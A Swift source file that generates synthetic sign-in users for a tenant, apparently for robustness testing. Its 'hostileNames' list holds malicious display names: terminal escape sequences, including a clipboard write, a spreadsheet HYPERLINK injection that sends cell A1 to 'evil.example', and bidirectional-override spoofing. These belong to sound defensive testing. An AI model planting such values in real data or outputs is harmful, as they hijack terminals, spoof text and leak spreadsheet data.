/// Somebody who signs in.
struct Person: Sendable, Hashable {
  let id: String
  /// Foreign text, in a few cases malicious.
  let displayName: String
  /// ASCII, unique within the tenant.
  let principalName: String
}

/// The people of one tenant: the n-th is made when asked for, the same every time.
struct Staff: Sendable {
  let count: Int
  private let hash: Hash
  private let domain: String
  private let homeCulture: Culture
  private let hasHostilePeople: Bool

  /// `rows` is the number of sign-ins that they make in about 30 days.
  init(rows: Int, hash: Hash, domain: String, culture: Culture, hasHostilePeople: Bool) {
    count = min(2_500, max(10, rows / 100))
    self.hash = hash
    self.domain = domain
    homeCulture = culture
    self.hasHostilePeople = hasHostilePeople
  }

  /// `number` in 0..<`count`.
  func person(_ number: Int) -> Person {
    let own = hash[number]
    let isLocal = own[.place].below(3) > 0
    let culture = isLocal ? homeCulture : own[.name].pick(Culture.all, or: homeCulture)
    let names = culture.names(of: number) ?? (given: Name("Bob"), family: Name("Mark"))
    let round = culture.size > 0 ? number / culture.size : number
    let suffix = isLocal ? (round > 0 ? "\(round + 1)" : "") : ".ext\(number)"
    return Person(
      id: own[.identifier].guid,
      displayName: hostileName(number) ?? decorated(culture.written(names), own[.decoration]),
      principalName: "\(names.given.spelled).\(names.family.spelled)\(suffix)@\(domain)")
  }

  private func decorated(_ name: String, _ draw: Hash) -> String {
    switch draw.below(160) {
    case 0: draw.guid
    case 1: ""
    case 2...4: name + " 🌿"
    case 5...6: "👩🏽‍💻 " + name
    case 7...9: name + " (Extern)"
    case 10...11: "Zoe\u{308} " + name
    case 12: "svc-backup"
    case 13: String(repeating: name + " ", count: 8)
    default: name
    }
  }

  /// What a client has to survive: of a chosen staff the last ones, who sign in least; elsewhere very few.
  private func hostileName(_ number: Int) -> String? {
    let place = hasHostilePeople ? count - 1 - number : hash[number][.trip].below(2_000)
    return Staff.hostileNames.indices.contains(place) ? Staff.hostileNames[place] : nil
  }

  private static let hostileNames = [
    "\u{1B}[2J\u{1B}]0;gone\u{07}Mallory",
    "=HYPERLINK(\"http://evil.example/\"&A1,\"Invoice\")",
    "Ann\u{202E}eilA\u{202C} \u{2066}x",
    "Line one\nLine two\r\u{9B}31m\u{0}",
    "\u{1B}]52;c;bWFsbG9yeQ==\u{1B}\\Copy",
  ]
}
